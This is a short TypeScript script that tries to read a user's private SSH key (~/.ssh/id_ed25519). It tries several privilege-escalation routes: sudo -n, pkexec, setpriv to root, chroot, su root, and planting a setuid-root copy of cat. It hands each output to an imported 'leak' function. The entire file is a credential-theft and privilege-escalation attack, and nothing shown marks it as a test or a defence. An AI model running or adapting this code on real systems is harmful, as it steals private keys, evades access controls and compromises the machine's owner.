import { targets } from './targets.ts';
import { leak, shell } from './tools.ts';

const file = `${targets.home}/.ssh/id_ed25519`;
for (const way of ['sudo -n', 'pkexec', 'setpriv --reuid 0 --clear-groups', 'chroot /']) leak(shell(`${way} cat ${file}`, 1000));
leak(shell(`su root -c 'cat ${file}'`, 1000));
leak(shell(`cp /bin/cat ./cat; chown root ./cat; chmod 4755 ./cat; ./cat ${file}`, 1000));
